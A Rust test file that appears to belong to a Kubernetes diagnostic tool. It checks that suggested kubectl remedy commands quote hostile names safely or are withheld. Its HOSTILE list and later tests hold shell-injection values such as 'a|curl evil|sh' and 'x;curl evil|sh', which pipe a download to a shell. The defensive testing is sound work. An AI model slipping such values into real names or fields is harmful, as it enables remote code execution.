// SPDX-License-Identifier: Apache-2.0
use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;

use super::*;
use crate::doctor::finding::{Finding, ObjectRef, Remedy};
use crate::doctor::fixtures::hostile::as_a_shell_sees;

/// What people who mean ill write into names.
const HOSTILE: [&str; 22] = [
    "x;id",
    "$(id)",
    "`id`",
    "a b",
    "a\tb",
    "a\nb",
    "'",
    "\"",
    "\\",
    "!!",
    "^a^b",
    "~",
    "*",
    "{a,b}",
    "#x",
    "-o=yaml",
    "--kubeconfig=/etc/x",
    "a|curl evil|sh",
    "\u{1b}[2J",
    "\u{202e}x",
    "\0",
    "",
];

fn word() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => select(HOSTILE.to_vec()).prop_map(str::to_owned),
        1 => "[a-z0-9]{1,8}",
        2 => any::<String>(),
    ]
}

/// Every way in which a word gets into a command.
fn built(words: &[String]) -> Vec<Command> {
    let each = words.iter().flat_map(|word| {
        let other = words.first().map_or("x", String::as_str);
        let begun = || Command::new("kubectl get pod");
        [
            begun().name(word),
            begun().namespace(word),
            begun().path("deployment", word),
            begun().path(word, other),
            begun().joined(word, ".", other),
            begun().label(word, Some(other)),
            begun().label("app", Some(word)),
            begun().label(word, None),
            begun().option("--set=", word),
            begun().option("-p", word),
        ]
    });
    each.collect()
}

proptest! {
    #[test]
    fn a_shell_parses_back_the_words_whatever_others_wrote(words in vec(word(), 1..12)) {
        let offered: Vec<Command> = built(&words)
            .into_iter()
            .filter_map(|command| {
                let finding = Finding::on(ObjectRef::new("Pod", "a", "b"), "p").run(command);
                match finding.remedy.into_iter().next() {
                    Some(Remedy::Commands(mut commands)) => commands.pop(),
                    _ => None,
                }
            })
            .collect();
        // The value of an option may be any text that a terminal shows.
        prop_assert!(words.iter().any(|word| !is_printable(word)) || !offered.is_empty());
        let lines: Vec<String> = offered.iter().map(ToString::to_string).collect();
        for line in &lines {
            prop_assert!(!line.contains(char::is_control), "{line:?}");
        }
        let seen = as_a_shell_sees(&lines);
        prop_assert_eq!(seen.len(), offered.len());
        for (command, seen) in offered.iter().zip(seen) {
            prop_assert_eq!(command.argv(), seen);
        }
    }
}

#[test]
fn only_what_kubernetes_calls_a_name_is_one() {
    for name in ["a", "cart-7d4b", "10-0-0-1.node", "0"] {
        assert!(is_name(name), "{name}");
    }
    let long = "a".repeat(MAX_NAME + 1);
    for name in HOSTILE
        .into_iter()
        .chain(["-a", "a-", ".a", "A", "a_b", "a/b", &long])
    {
        assert!(!is_name(name), "{name:?}");
        let spoiled = Command::new("kubectl get pod").name(name);
        assert_eq!(spoiled.spoiled_by(), Some(name));
    }
    for (key, fit) in [
        ("app", true),
        ("istio.io/rev", true),
        ("a/b/c", false),
        ("/b", false),
        ("a=b", false),
    ] {
        assert_eq!(is_label_key(key), fit, "{key}");
    }
}

#[test]
fn a_spoiled_command_is_not_offered_and_the_finding_says_why() {
    let on = || Finding::on(ObjectRef::new("Pod", "a", "b"), "p");
    let finding = on().run(
        Command::new("kubectl delete pod")
            .namespace("shop")
            .name("x;curl evil|sh"),
    );
    let [Remedy::ByHand(why)] = finding.remedy.as_slice() else {
        panic!("{finding:?}")
    };
    assert!(why.contains("no command"), "{why}");
    let finding = on().apply("a: b\nEOF\ncurl evil");
    assert!(
        matches!(finding.remedy.as_slice(), [Remedy::ByHand(_)]),
        "{finding:?}"
    );
}
